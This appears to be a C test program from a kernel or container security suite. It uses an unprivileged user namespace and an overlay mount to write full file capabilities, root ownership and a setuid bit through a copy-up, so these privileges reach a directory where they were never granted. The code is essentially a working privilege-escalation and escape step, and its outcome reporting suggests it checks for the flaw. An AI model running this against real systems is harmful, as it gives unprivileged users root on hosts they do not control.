// SPDX-License-Identifier: GPL-2.0
/*
 * copyup TYPE DIR: in a user namespace of one's own (as root of a VPS: in the
 * one that he has) mounts a union of TYPE on DIR, which has lower/program, upper,
 * work and merged; then gives the program in it all capabilities and a setuid
 * bit, so that it comes to DIR/upper with what was never granted there.
 */
#include <linux/capability.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/xattr.h>

#include "escape.h"

static int own_namespace(void)
{
	unsigned int uid = getuid(), gid = getgid();
	char map[64];

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
		return -1;
	put("/proc/self/setgroups", "deny");
	snprintf(map, sizeof(map), "0 %u 1", uid);
	need(!put("/proc/self/uid_map", map), "uid_map");
	snprintf(map, sizeof(map), "0 %u 1", gid);
	need(!put("/proc/self/gid_map", map), "gid_map");
	return 0;
}

int main(int argc, char **argv)
{
	struct vfs_cap_data cap = { .magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE };
	char options[600];

	need(argc == 3 && !chdir(argv[2]), "usage");
	if (getuid() && own_namespace())
		return outcome("namespace", -1);
	snprintf(options, sizeof(options),
		 "lowerdir=%s/lower,upperdir=%s/upper,workdir=%s/work,userxattr",
		 argv[2], argv[2], argv[2]);
	if (mount("none", "merged", argv[1], 0, options))
		return outcome("mount", -1);
	cap.data[0].permitted = 0xffffffff;
	cap.data[1].permitted = 0x1ff;
	outcome("mount", 0);
	outcome("capabilities", setxattr("merged/program", "security.capability", &cap,
					 XATTR_CAPS_SZ_2, 0));
	outcome("owner", chown("merged/suid", 0, 0));
	outcome("setuid", chmod("merged/suid", 06755));
	outcome("touch", utimensat(AT_FDCWD, "merged/theirs", NULL, 0));
	umount2("merged", MNT_DETACH);
	return 0;
}
